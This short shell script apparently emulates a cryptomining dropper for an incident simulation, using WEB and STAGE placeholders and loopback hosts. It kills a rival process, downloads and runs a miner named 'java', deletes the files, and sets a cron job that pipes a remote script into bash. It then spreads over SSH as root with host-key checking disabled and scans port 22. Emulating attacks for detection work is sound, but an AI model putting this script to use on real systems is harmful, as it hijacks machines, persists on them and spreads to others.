# SPDX-License-Identifier: Apache-2.0
# The dropper of the hadoop-incident story, in the manner of the kits that are fed to YARN: ends a
# rival, fetches a miner named java, runs it, deletes it, comes back by cron, looks for neighbours.
D=STAGE/drop
cd $D
if [ -e rival.pid ]; then kill -9 $(cat rival.pid); rm -f rival.pid; fi
curl -s -o java WEB/java || wget -q -O java WEB/java
curl -s -o w.conf WEB/w.conf || wget -q -O w.conf WEB/w.conf
chmod 777 java
nohup ./java -c w.conf >>log 2>&1 &
echo $! > miner.pid
until grep -q accepted log; do sleep 0.2; done
rm -f java w.conf
echo "(curl -s WEB/zz.sh || wget -q -O - WEB/zz.sh) | bash" > crontab
if [ ! -e spread ]; then
    touch spread
    for i in 11 12 13 14; do
        ssh -oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null -oBatchMode=yes \
            -oConnectTimeout=2 -i key root@127.0.0.$i "(curl -s WEB/zz.sh || wget -q -O - WEB/zz.sh) | bash" 2>/dev/null
    done
    for i in $(seq 20 60); do
        (exec 3<>/dev/tcp/127.0.0.$i/22) 2>/dev/null && echo 127.0.0.$i >> open
    done
fi
touch finished
